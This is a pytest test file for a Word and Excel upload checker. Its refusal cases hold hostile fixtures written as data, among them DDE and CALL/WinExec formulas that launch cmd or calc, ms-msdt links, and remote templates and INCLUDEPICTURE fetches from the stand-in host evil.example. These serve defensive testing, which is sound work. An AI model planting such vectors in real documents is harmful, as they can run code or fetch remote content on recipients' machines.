"""Word and Excel files: what runs, fetches or hides is found; what offices really write is taken."""

import pytest

from reports.evidence import office, refusals
from reports.evidence.refusals import NotAccepted
from tests import hostile
from tests.reports.readers import office as parts

REMOTE = "https://evil.example/x"
MACRO_KIND = "application/vnd.ms-word.document.macroEnabled.main+xml"


def refusal(data: bytes) -> str:
    try:
        office.check(data)
    except NotAccepted as refused:
        return refused.message
    return ""


def related(kind: str, target: str) -> bytes:
    return hostile.docx(relations=[("r9", kind, target)])


def instructed(words: str) -> bytes:
    """Word with a field."""
    return hostile.docx(parts.paragraph(f"<w:r><w:instrText>{words}</w:instrText></w:r>"))


def counted(formula: str, tag: str = "f") -> bytes:
    """Excel with a formula."""
    return hostile.xlsx(parts={"xl/worksheets/sheet1.xml": f"<{tag}>{formula}</{tag}>"})


TEMPLATE_FROM_AFAR = parts.relations(("r1", "attachedTemplate", REMOTE))


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (hostile.docx(), "docx"),
        (hostile.xlsx(), "xlsx"),
        (related("hyperlink", "https://www.nacc.go.th/"), "docx"),
        (related("hyperlink", "mailto:ita@lamphun.go.th"), "docx"),
        (related("hyperlink", "file:///D:/งาน/แผน.docx"), "docx"),
        (related("attachedTemplate", "file:///C:\\Users\\a\\Templates\\Normal.dotm"), "docx"),
        # The numbers of a chart.
        (
            hostile.docx(
                relations=[("r9", "package", "embeddings/Microsoft_Excel_Sheet1.xlsx")],
                parts={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": hostile.xlsx()},
            ),
            "docx",
        ),
        (hostile.xlsx(parts={"xl/printerSettings/printerSettings1.bin": b"\0\1"}), "xlsx"),
        (hostile.docx(parts={"word/media/image1.png": hostile.picture()}), "docx"),
        (hostile.xlsx(parts={"xl/worksheets/sheet1.xml": "<f>SUM(A1:A9)/2</f>"}), "xlsx"),
        (hostile.docx(parts={"docProps/app.xml": "<a>DDE และ INCLUDE</a>"}), "docx"),
        (hostile.docx(parts={"word/media/image1.emz": b"\x1f\x8b\x08"}), "docx"),
        (hostile.docx(parts={"word/media/image1.svg": "<svg><path d='M0 0'/></svg>"}), "docx"),
        (instructed('HYPERLINK "https://www.nacc.go.th/"'), "docx"),
        (instructed('HYPERLINK \\l "ข้อ๑"'), "docx"),
        (instructed("HYPERLINK &quot;D:\\\\งาน\\\\แผน.docx&quot;"), "docx"),
        (counted('IF(A1=1,"|","x|y")&amp;HYPERLINK("#แผน!A1","แผน")'), "xlsx"),
        (counted("[แผน.xlsx]ชีต!A1", "definedName"), "xlsx"),
        (hostile.docx('<v:imagedata src="cid:image1" o:href="cid:image1"/>'), "docx"),
    ],
)
def test_what_offices_write_is_taken(data, kind):
    assert office.check(data) == kind


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (hostile.docx(kind=MACRO_KIND), refusals.MACRO),
        (hostile.docx(parts={"word/x/VBAPROJECT.BIN": b"x"}), refusals.MACRO),
        (related("vbaProject", "other.bin"), refusals.MACRO),
        (
            hostile.docx(kind=f"{hostile.CONTENT}wordprocessingml.template.main+xml"),
            refusals.TEMPLATE,
        ),
        (
            hostile.xlsx(kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
            refusals.MACRO,
        ),
        (
            hostile.docx(kind=f"{hostile.CONTENT}presentationml.presentation.main+xml"),
            refusals.SLIDES,
        ),
        (hostile.docx(kind="text/plain"), refusals.OFFICE_DAMAGED),
        (
            related("attachedTemplate", "file://host/x.dotm"),
            refusals.REMOTE_TEMPLATE.format("file://host/x.dotm"),
        ),
        (related("hyperlink", "file://host/x"), refusals.BAD_LINK.format("file://host/x")),
        (related("hyperlink", "ms-msdt:/id"), refusals.BAD_LINK.format("ms-msdt:/id")),
        (related("frame", REMOTE), refusals.OUTSIDE.format(REMOTE)),
        (related("webextensiontaskpanes", "x.xml"), refusals.ACTIVE_X),
        (
            hostile.xlsx(relations=[("r9", "connections", "connections.xml")]),
            refusals.EXTERNAL_LINKS,
        ),
        (counted("_xlfn.WEBSERVICE(A1)"), refusals.EXTERNAL_LINKS),
        (counted("cmd|'/c calc'!A1"), refusals.EXTERNAL_LINKS),
        (counted("MSEXCEL|'\\..\\cmd.exe /c calc'!A0"), refusals.EXTERNAL_LINKS),
        (counted('_xlfn.IMAGE("https://evil.example/x")'), refusals.EXTERNAL_LINKS),
        (counted('CALL("kernel32","WinExec","JCJ","calc",1)'), refusals.EXTERNAL_LINKS),
        (counted("_xlfn.WEBSERVICE(A1)", "definedName"), refusals.EXTERNAL_LINKS),
        (counted('RTD("x",,"y")', "formula1"), refusals.EXTERNAL_LINKS),
        (
            counted('HYPERLINK("file://host/x.exe","แผน")'),
            refusals.BAD_LINK.format("file://host/x.exe"),
        ),
        (counted('HYPERLINK("\\\\host\\x")'), refusals.BAD_LINK.format("\\host\\x")),
        (instructed('HYPERLINK "ms-msdt:/id"'), refusals.BAD_LINK.format("ms-msdt:/id")),
        (
            instructed('LINK Excel.Sheet.8 "\\\\host\\x.xls"'),
            refusals.REMOTE_PICTURE.format("INCLUDE"),
        ),
        (
            hostile.docx('<v:imagedata src="https://evil.example/x"/>'),
            refusals.REMOTE_PICTURE.format("VML"),
        ),
        (
            hostile.docx(parts={"word/_rels/SETTINGS.XML.RELS": TEMPLATE_FROM_AFAR}),
            refusals.REMOTE_TEMPLATE.format(REMOTE),
        ),
        (
            hostile.docx(parts={"word/embeddings/a.zip": parts.zipped({"a.exe": "MZ"})}),
            refusals.HIDDEN_ARCHIVE.format("a.zip"),
        ),
        (
            hostile.docx(parts={"word/media/a.png": hostile.docx(parts={"b": hostile.docx()})}),
            refusals.HIDDEN_ARCHIVE.format("b"),
        ),
        (
            hostile.docx(parts={"word/media/a.jpg": b"Rar!\x1a\x07"}),
            refusals.HIDDEN_ARCHIVE.format("a.jpg"),
        ),
        (hostile.docx(parts={"word/x.hta": "x"}), refusals.HIDDEN_PROGRAM.format("x.hta")),
        (
            hostile.docx(parts={"word/media/a.svg": "<svg><script>x</script></svg>"}),
            refusals.HIDDEN_PROGRAM.format("a.svg"),
        ),
        (hostile.docx(parts={"word/embeddings/a.bin": hostile.ole("x")}), refusals.OLE),
        (
            hostile.docx(
                relations=[("r9", "package", "embeddings/a.xlsx")],
                parts={"word/embeddings/a.xlsx": b"MZ"},
            ),
            refusals.HIDDEN_PROGRAM.format("a.xlsx"),
        ),
        (
            hostile.docx(
                relations=[("r9", "package", "embeddings/a.xlsx")],
                parts={"word/embeddings/a.xlsx": hostile.xlsx(parts={"xl/vbaProject.bin": b"x"})},
            ),
            refusals.MACRO,
        ),
        (
            hostile.docx(parts.paragraph('<w:fldSimple w:instr="DDE c:\\\\cmd.exe"/>')),
            refusals.DDE,
        ),
        (
            hostile.docx(
                parts.paragraph(
                    '<w:r><w:instrText>INCLUDEPICTURE "https://evil.example/x"</w:instrText></w:r>'
                )
            ),
            refusals.REMOTE_PICTURE.format("INCLUDE"),
        ),
        (
            hostile.docx(parts={"word/styles.xml": "<!DOCTYPE a []><a/>".encode("utf-16")}),
            refusals.OFFICE_ENTITIES,
        ),
        (hostile.docx() + b"<script>", refusals.TWO_KINDS.format("ข้อมูลนอกเอกสาร")),
        (hostile.docx()[:300], refusals.OFFICE_DAMAGED),
        (
            parts.zipped({"mimetype": "application/vnd.oasis.opendocument.text", "a": "b"}),
            refusals.OPEN_DOCUMENT,
        ),
        (parts.zipped({}), refusals.OFFICE_DAMAGED),
    ],
)
def test_what_would_harm_is_found(data, sentence):
    assert refusal(data) == sentence


def test_a_program_before_the_archive_is_found():
    with_head = b"PK\x03\x04" + b"\0" * 100 + hostile.docx()

    assert refusal(with_head) == refusals.TWO_KINDS.format("ข้อมูลนอกเอกสาร")
